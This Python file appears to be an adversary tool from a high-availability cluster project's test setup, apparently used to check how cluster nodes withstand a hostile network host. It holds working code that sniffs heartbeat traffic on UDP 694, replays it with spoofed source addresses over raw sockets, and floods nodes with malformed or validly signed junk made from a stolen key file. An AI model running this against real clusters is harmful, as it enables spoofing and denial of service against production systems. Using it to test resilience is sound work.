"""What a hostile host on the cluster's network can do; run inside a pretended host by its path.

    attacker.py record FILE                       write every datagram to UDP 694 that is seen, until SIGTERM
    attacker.py replay FILE [--pace S] [--loop]   send them again, from the address they came from
    attacker.py flood COUNT [--like FILE] [--authkeys FILE]
                                                  garbage; damaged copies of what was recorded; nonsense that is signed

A recording has one JSON object a line: source, destination, payload in hex.
"""

from __future__ import annotations

import argparse
import itertools
import json
import random
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

from hacluster.wire.auth import Key, KeyRing, Method, digest
from hacluster.wire.frame import sign
from hacluster.wire.hamsg import HaMessage

PORT = 694
BROADCAST = "172.16.255.255"
POOL = 3_000
"""Different datagrams of one flood; made before it begins, so that it is as fast as the socket."""

ETH_P_IP = 0x0800
ETH_P_ALL = 0x0003
SO_RCVBUFFORCE = 33


def record(path: str) -> None:
    """An AF_PACKET socket sees what the switch brings here (packet(7)); broadcasts come to everybody."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    sock.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 8 << 20)
    own = {line.split()[3].split("/")[0] for line in _addresses()}
    with open(path, "w", buffering=1, encoding="ascii") as file:
        print("recording", flush=True)
        while True:
            packet, (_, protocol, *_) = sock.recvfrom(1 << 16)
            if protocol == ETH_P_IP and (found := _udp(packet)) is not None and found[0] not in own:
                source, destination, payload = found
                file.write(json.dumps({"from": source, "to": destination, "data": payload.hex()}) + "\n")


def _addresses() -> list[str]:
    return subprocess.run(["ip", "-o", "-4", "addr"], capture_output=True, text=True, check=True).stdout.splitlines()


def _udp(packet: bytes) -> tuple[str, str, bytes] | None:
    """Source, destination and payload of an unfragmented UDP datagram to the cluster's port (RFC 791, RFC 768)."""
    if len(packet) < 28 or packet[9] != socket.IPPROTO_UDP:
        return None
    header = (packet[0] & 15) * 4
    if struct.unpack_from("!H", packet, 6)[0] & 0x3FFF or struct.unpack_from("!H", packet, header + 2)[0] != PORT:
        return None
    length = struct.unpack_from("!H", packet, header + 4)[0]
    source, destination = (socket.inet_ntoa(packet[a : a + 4]) for a in (12, 16))
    return source, destination, packet[header + 8 : header + length]


def load(path: str) -> list[tuple[str, str, bytes]]:
    items = (json.loads(line) for line in Path(path).read_text(encoding="ascii").splitlines())
    return [(item["from"], item["to"], bytes.fromhex(item["data"])) for item in items]


def replay(path: str, pace: float, *, loop: bool) -> None:
    """A raw socket with a header of our own, so that they come from where they came from (raw(7), IP_HDRINCL)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    items = load(path)
    print("replaying", len(items), flush=True)
    while True:
        for source, destination, payload in items:
            udp = struct.pack("!HHHH", 40_000, PORT, 8 + len(payload), 0)
            addresses = socket.inet_aton(source) + socket.inet_aton(destination)
            header = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0) + addresses
            sock.sendto(header + udp + payload, (destination, 0))
            time.sleep(pace)
        if not loop:
            break
    print("replayed", flush=True)


def damaged(data: bytes, dice: random.Random) -> bytes:
    """One of the ways in which a datagram can be broken."""
    match dice.randrange(6):
        case 0:
            return data[: dice.randrange(len(data))]
        case 1:
            at = dice.randrange(len(data))
            return data[:at] + bytes([data[at] ^ (1 << dice.randrange(8))]) + data[at + 1 :]
        case 2:
            at, end = sorted((dice.randrange(len(data)), dice.randrange(len(data))))
            return data[:at] + data[end:]
        case 3:
            return data + dice.randbytes(dice.randrange(1, 64))
        case 4:
            return data * dice.randrange(2, 4)
        case _:
            at = dice.randrange(len(data))
            return data[:at] + dice.randbytes(dice.randrange(1, 40)) + data[at:]


def garbage(dice: random.Random, like: list[bytes]) -> Iterator[bytes]:
    """Datagrams of anybody."""
    fixed = [
        b"",
        b"###\n",
        b"###\n" + b"9" * 60_000,
        b"###\n999999999:x,",
        b">>>\n" + b"a=b\n" * 10_000 + b"<<<\n",
        b">>>\n" + b"(1)x=\n" * 5_000,
        b">>>\nt=status\nauth=1 " + b"0" * 40 + b"\n<<<\n\0",
        b"###\n8:t=status,%%%\n34:1 " + b"0" * 32 + b",",
        b"\0" * 65_000,
    ]
    while True:
        kind = dice.randrange(100)
        if like and kind < 60:
            yield damaged(dice.choice(like), dice)
        elif kind < 99:
            yield dice.choice((b"", b"###\n", b">>>\n", b"!!!\n", b"$$$\n")) + dice.randbytes(dice.randrange(0, 400))
        else:
            yield dice.choice(fixed)


def nonsense(dice: random.Random, authkeys: str) -> Iterator[bytes]:
    """Datagrams of one who has the keys: well signed, and senseless."""
    line = next(
        s.split() for s in Path(authkeys).read_text(encoding="ascii").splitlines() if s[:1] != "a" and s.strip()
    )
    key = Key(int(line[0]), Method(line[1]), line[2].encode())
    ring = KeyRing({key.slot: key}, key.slot)
    words = ["", "0", "-1", "ffffffffffffffffffff", "x" * 300, "status", "node9.name", "client.name", "\u00e9", "1e9"]
    names = [
        "t",
        "st",
        "src",
        "dest",
        "hg",
        "seq",
        "ts",
        "dt",
        "ttl",
        "srcuuid",
        "protocol",
        "rsc_hold",
        "firstseq",
        "nodelist",
    ]
    kinds = [
        "status",
        "NS_rexmit",
        "NS_ackmsg",
        "resource",
        "starting",
        "ask_resources",
        "shutdone",
        "reqnodes",
        "repnodes",
    ]
    while True:
        if dice.randrange(4):
            fields = {n: dice.choice(words) for n in dice.sample(names, dice.randrange(1, len(names)))}
            fields["t"] = dice.choice(kinds)
            yield sign(HaMessage.of(**fields), ring)
        else:
            signed = b"###\n" + dice.randbytes(dice.randrange(1, 300)) + b"%%%\n"
            token = f"{key.slot} {digest(key, signed)}".encode()
            yield signed + f"{len(token)}:".encode() + token + b","


def flood(count: int, like: str, authkeys: str) -> None:
    """As many, as fast as the socket takes them; to everybody, and every other one to one node alone."""
    dice = random.Random(count)
    known = [data for _, _, data in load(like) if data] if like else []
    endless = nonsense(dice, authkeys) if authkeys else garbage(dice, known)
    pool = list(itertools.islice(endless, POOL))
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    begin, sent = time.monotonic(), 0
    while sent < count:
        data = dice.choice(pool)
        try:
            sock.sendto(data[:65_507], (BROADCAST if len(data) < 1_400 else "172.16.100.6", PORT))
        except OSError:
            continue
        sent += 1
    print("flooded", sent, round(time.monotonic() - begin, 2), flush=True)


def main() -> int:
    parser = argparse.ArgumentParser()
    commands = parser.add_subparsers(dest="command", required=True)
    one = commands.add_parser("record")
    one.add_argument("file")
    two = commands.add_parser("replay")
    two.add_argument("file")
    two.add_argument("--pace", type=float, default=0.01)
    two.add_argument("--loop", action="store_true")
    three = commands.add_parser("flood")
    three.add_argument("count", type=int)
    three.add_argument("--like", default="")
    three.add_argument("--authkeys", default="")
    options = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    match options.command:
        case "record":
            record(options.file)
        case "replay":
            replay(options.file, options.pace, loop=options.loop)
        case _:
            flood(options.count, options.like, options.authkeys)
    return 0


if __name__ == "__main__":
    sys.exit(main())
